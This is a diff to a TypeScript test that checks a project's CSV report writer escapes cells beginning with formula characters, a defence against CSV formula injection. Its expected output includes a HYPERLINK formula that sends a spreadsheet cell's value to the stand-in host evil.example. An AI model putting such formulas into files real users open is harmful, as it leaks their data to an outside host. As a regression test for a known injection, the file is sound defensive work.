@@ -3,7 +3,7 @@ import path from 'node:path';
 import type { Client } from 'pg';
 import { csvText } from '../../shared/src/io/csv';
 import { ImportError, importStock } from '../../services/migration-data/src/import';
-import { flattenRows, toCsv } from '../../scripts/report';
+import { tableCsv } from '../../gateway/src/reports/formats';
 import { type ImportFixture, openImportFixture } from '../support/importFixture';
 
 // CSV formula injection (OWASP): a cell that begins with =, +, -, @, tab or carriage return is run by
@@ -30,16 +30,18 @@ describe('CSV written by the project', () => {
     );
   });
 
-  it('writes report cells that look like formulas as text, whatever field they come from', () => {
-    const data = {
-      unAgencies: [
-        { acronym: HYPERLINK, name: CMD, custodianOf: [{ code: SUM, parties: -3 }] },
-        { acronym: 'ILO', name: MINUS, custodianOf: [{ code: 'C097', parties: 12 }] },
+  it('writes report cells that look like formulas as text, whatever column they are in', () => {
+    const table = {
+      name: 'agencies',
+      columns: ['acronym', 'name', 'code', 'parties'].map((label) => ({ label, date: false })),
+      rows: [
+        [HYPERLINK, CMD, SUM, -3],
+        ['ILO', MINUS, 'C097', 12],
       ],
     };
-    expect(toCsv(flattenRows(data))).toBe(
+    expect(tableCsv(table)).toBe(
       [
-        'unAgencies.acronym,unAgencies.name,unAgencies.custodianOf.code,unAgencies.custodianOf.parties',
+        '\ufeffacronym,name,code,parties',
         `"'=HYPERLINK(""http://evil.example/?leak=""&B2)",'${CMD},'${SUM},-3`,
         `ILO,'${MINUS},C097,12`,
         '',
